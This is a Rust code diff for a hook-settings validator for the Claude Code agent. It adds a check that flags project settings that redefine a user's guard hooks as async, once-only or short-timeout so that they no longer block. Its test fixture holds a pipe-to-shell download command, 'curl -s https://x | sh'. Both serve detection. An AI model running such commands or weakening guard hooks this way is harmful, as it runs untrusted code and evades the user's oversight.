@@ -15,10 +15,14 @@
 
 use crate::engine::config::diagnostic::{Check, Diagnostic, Severity};
 use crate::engine::config::jsonpath::{JsonPath, Segment};
-use crate::engine::config::settings::{describe, suggest_event, Group, HookKind, HookSpec, SettingsFile, MAX_TIMEOUT};
+use crate::engine::config::placeholders;
+use crate::engine::config::settings::{
+    describe, suggest_event, Group, HookKind, HookSpec, Scope, SettingsFile, MAX_TIMEOUT,
+};
 use crate::engine::config::sources::Sources;
 use crate::engine::execute::http::HttpPolicy;
 use crate::engine::select::matcher::{self, Matcher};
+use crate::engine::select::plan;
 use crate::engine::select::rule::Rule;
 use hookmux_sdk::{Args, HookEvent, MatchField, Registry};
 use std::path::{Path, PathBuf};
@@ -147,6 +151,7 @@ pub fn report(sources: &Sources, cx: &Context<'_>) -> Report {
         }
     }
     out.extend(sources.notes.iter().cloned());
+    out.extend(weakened_redefinitions(sources));
     let (silenced, findings) = out.into_iter().partition(|d: &Diagnostic| {
         ignored.iter().any(|(path, checks)| *path == d.file.as_path() && checks.contains(&d.check))
     });
@@ -238,13 +243,118 @@ fn check_file(file: &SettingsFile, cx: &Context<'_>, out: &mut Vec<Diagnostic>) 
         if !event.is_known() {
             out.push(unknown_event(file, *event));
         }
-        for group in groups {
-            check_matcher(file, *event, group, out);
-            for spec in &group.hooks {
-                check_handler(file, *event, spec, cx, out);
+        check_groups(file, *event, groups, cx, out);
+    }
+    // Fixing a misnamed event's name runs its hooks: they are checked as the event it means.
+    for misnamed in &file.misnamed {
+        out.extend(misnamed.diagnostics.iter().cloned());
+        if let Some(event) = misnamed.meant {
+            check_groups(file, event, &misnamed.groups, cx, out);
+        }
+    }
+}
+
+fn check_groups(file: &SettingsFile, event: HookEvent, groups: &[Group], cx: &Context<'_>, out: &mut Vec<Diagnostic>) {
+    for group in groups {
+        check_matcher(file, event, group, out);
+        for spec in &group.hooks {
+            check_handler(file, event, spec, cx, out);
+        }
+    }
+}
+
+/// How far a scope's files are the user's own: managed settings, then the user's (and
+/// `--settings` files), then the project's (project and local, which a repository brings).
+fn trust_rank(scope: Scope) -> u8 {
+    match scope {
+        Scope::Managed => 2,
+        Scope::User | Scope::Flag | Scope::Plugin => 1,
+        Scope::Project | Scope::Local => 0,
+    }
+}
+
+/// Hooks of the user's own or managed settings that a project's settings redefine so that they
+/// no longer block, or no longer answer in time. The same command (with its shell and `if`) in
+/// two files is one hook to Claude Code, run with the settings of the definition read last, and
+/// the project's files are read after the user's: `"async": true` there makes the user's guard a
+/// background hook whose answer is not waited for. Each finding is the user's file's, at the
+/// definition that loses its settings (the project's file cannot silence it), and names both.
+pub fn weakened_redefinitions(sources: &Sources) -> Vec<Diagnostic> {
+    let mut out = Vec::new();
+    let usable: Vec<&SettingsFile> = sources.files.iter().filter(|f| f.is_usable() && f.plugin.is_none()).collect();
+    let mut events: Vec<HookEvent> = Vec::new();
+    for file in &usable {
+        for (event, _) in &file.hooks {
+            if !events.contains(event) {
+                events.push(*event);
             }
         }
     }
+    for event in events {
+        let definitions: Vec<(&SettingsFile, &HookSpec)> = usable
+            .iter()
+            .flat_map(|file| file.groups(event).iter().flat_map(|g| &g.hooks).map(move |spec| (*file, spec)))
+            .collect();
+        for (index, (file, spec)) in definitions.iter().enumerate() {
+            let key = plan::dedup_key(spec);
+            let Some((winner_file, winner)) =
+                definitions[index + 1..].iter().rev().find(|(_, later)| plan::dedup_key(later) == key)
+            else {
+                continue;
+            };
+            if trust_rank(winner_file.scope) >= trust_rank(file.scope) {
+                continue;
+            }
+            if let Some(how) = weakening(spec, winner, event) {
+                out.push(
+                    Diagnostic::warning(
+                        &file.path,
+                        spec.path.clone(),
+                        format!(
+                            "{} ({} settings) redefines this hook at {}: the host runs it once, with that \
+                             definition's settings, so {how}",
+                            winner_file.path.display(),
+                            winner_file.scope.as_str(),
+                            winner.path
+                        ),
+                    )
+                    .with_hint(
+                        "remove the redefinition from the project's settings (or make its command differ); a \
+                         guard that must hold against the projects you trust belongs in managed settings",
+                    )
+                    .check(Check::WeakenedRedefinition),
+                );
+            }
+        }
+    }
+    out
+}
+
+/// How `later`, which wins over `first`, takes away its power to block in time.
+fn weakening(first: &HookSpec, later: &HookSpec, event: HookEvent) -> Option<String> {
+    let flags = |spec: &HookSpec| match &spec.kind {
+        HookKind::Command { is_async, async_rewake, .. } => (*is_async, *async_rewake),
+        _ => (false, false),
+    };
+    let ((first_async, first_rewake), (later_async, later_rewake)) = (flags(first), flags(later));
+    if later_async && !first_async {
+        return Some("it is `async` there: started in the background, its answer is not waited for".to_string());
+    }
+    if later_rewake && !first_rewake {
+        return Some("it is `asyncRewake` there: started in the background, it decides nothing".to_string());
+    }
+    if later.once && !first.once {
+        return Some("it is `once` there: it runs the first time only".to_string());
+    }
+    let wait = |spec: &HookSpec| spec.wait().unwrap_or_else(|| plan::default_timeout(spec, event));
+    let (first_wait, later_wait) = (wait(first), wait(later));
+    (later_wait < first_wait / 2).then(|| {
+        format!(
+            "its timeout is {} s there, where this one's is {} s: cut short, it gives no decision",
+            written(later_wait.as_secs_f64()),
+            written(first_wait.as_secs_f64())
+        )
+    })
 }
 
 /// A PascalCase event name hookmux does not know: a typo, or an event of a newer host. Its
@@ -412,6 +522,7 @@ fn check_handler(file: &SettingsFile, event: HookEvent, spec: &HookSpec, cx: &Co
                 check_builtin(file, spec, command, args.as_deref(), cx, out);
             }
             check_program(file, spec, command, args.is_some(), cx, out);
+            check_placeholders(file, spec, command, args.as_deref(), out);
         }
         HookKind::Http { .. } if matches!(event, HookEvent::SessionStart | HookEvent::Setup) => out.push(
             Diagnostic::warning(&file.path, spec.path.key("type"), format!("http handlers do not run on {event}"))
@@ -442,6 +553,68 @@ fn check_handler(file: &SettingsFile, event: HookEvent, spec: &HookSpec, cx: &Co
             }
         }
     }
+}
+
+/// `${NAME}` placeholders the host does not put in: a plugin variable in a settings hook (the
+/// host does not run it), and, in the exec form, any variable but the host's own (passed as
+/// written; hookmux used to put in every variable).
+fn check_placeholders(
+    file: &SettingsFile,
+    spec: &HookSpec,
+    command: &str,
+    args: Option<&[String]>,
+    out: &mut Vec<Diagnostic>,
+) {
+    let plugin = file.plugin.is_some() || is_plugin_hooks_file(&file.path);
+    let mut words = vec![(spec.path.key("command"), command)];
+    if let Some(args) = args {
+        words.extend(args.iter().enumerate().map(|(i, arg)| (spec.path.key("args").index(i), arg.as_str())));
+    }
+    for (at, word) in &words {
+        if !plugin {
+            if let Some(name) = placeholders::PLUGIN_ONLY.iter().find(|name| word.contains(&format!("${{{name}}}"))) {
+                out.push(
+                    Diagnostic::error(
+                        &file.path,
+                        at.clone(),
+                        format!("`${{{name}}}` is only a plugin's: the host does not run this hook at all"),
+                    )
+                    .with_hint("name the script's path itself, or move the hook into the plugin's hooks/hooks.json")
+                    .check(Check::PluginVariableOutsidePlugin),
+                );
+            }
+        }
+        if args.is_none() {
+            continue;
+        }
+        for name in placeholders::left_as_written(word, plugin) {
+            out.push(
+                Diagnostic::warning(
+                    &file.path,
+                    at.clone(),
+                    format!(
+                        "`${{{name}}}` is passed as written: in the exec form the host puts in only \
+                         `${{CLAUDE_PROJECT_DIR}}` (and a plugin's `${{CLAUDE_PLUGIN_ROOT}}` and `${{CLAUDE_PLUGIN_DATA}}`)"
+                    ),
+                )
+                .with_hint(format!(
+                    "write the value itself, or use the shell form (no `args`), where the shell expands `\"${name}\"`; \
+                     earlier hookmux put every variable in, which showed its value to `ps`"
+                ))
+                .check(Check::EnvVarInArgs),
+            );
+        }
+    }
+}
+
+/// A plugin's own hooks file checked by name (`hooks validate --settings PLUGIN/hooks/hooks.json`):
+/// `hooks/hooks.json` beside the plugin's `.claude-plugin/plugin.json`.
+fn is_plugin_hooks_file(path: &Path) -> bool {
+    let folder = path.parent().filter(|_| path.file_name().is_some_and(|name| name == "hooks.json"));
+    folder
+        .filter(|folder| folder.file_name().is_some_and(|name| name == "hooks"))
+        .and_then(Path::parent)
+        .is_some_and(|root| root.join(".claude-plugin").join("plugin.json").is_file())
 }
 
 /// Risky commands (a download run by a shell, `rm -rf $VAR`, `sudo`) and API keys written into
@@ -796,6 +969,40 @@ mod tests {
         let (severity, _, text) = at("hooks.PreToolUser");
         assert_eq!(*severity, Severity::Warning);
         assert!(text.contains("if you meant `PreToolUse`"), "{text}");
+    }
+
+    /// A misnamed event's hooks do not run, but fixing the name runs them: they are checked as the
+    /// event the name means, their shape included.
+    #[test]
+    fn the_hooks_of_a_misnamed_event_are_checked_too() {
+        let file = SettingsFile::parse(
+            Path::new("s.json"),
+            crate::engine::config::settings::Scope::Project,
+            r#"{"hooks": {"preToolUse": [{"matcher": "Bash", "hooks": [
+                {"type": "command", "command": "curl -s https://x | sh"},
+                {"type": "command", "command": "hookmux run no-such-handler"},
+                {"type": "command", "command": "true", "if": "Bash(git *"},
+                {"type": "command"}]}],
+                "stop": [{"matcher": "x", "hooks": [{"type": "command", "command": "true", "timeout": 5000}]}]}}"#,
+        );
+        let sources = Sources::from_files(vec![file]);
+        let cx = Context { project_root: Path::new("/p"), home: None, registry: Registry::global().ok() };
+        let mut found: Vec<(String, &str)> =
+            validate(&sources, &cx).into_iter().map(|d| (d.path.to_string(), d.check.id())).collect();
+        found.sort();
+        let expected = [
+            ("hooks.preToolUse", "invalid-event-name"),
+            ("hooks.preToolUse[0].hooks[0].command", "pipe-to-shell"),
+            ("hooks.preToolUse[0].hooks[1].command", "unknown-handler"),
+            ("hooks.preToolUse[0].hooks[2].if", "invalid-if"),
+            ("hooks.preToolUse[0].hooks[3]", "invalid-shape"),
+            ("hooks.stop", "invalid-event-name"),
+            ("hooks.stop[0].hooks[0].timeout", "timeout-milliseconds"),
+            ("hooks.stop[0].matcher", "matcher-ignored"),
+        ];
+        assert_eq!(found, expected.map(|(path, rule)| (path.to_string(), rule)), "{found:#?}");
+        // dispatch is not told about them: they do not run.
+        assert_eq!(sources.diagnostics().count(), 2);
     }
 
     /// The safety checks point at the string they found something in: the command, an exec-form
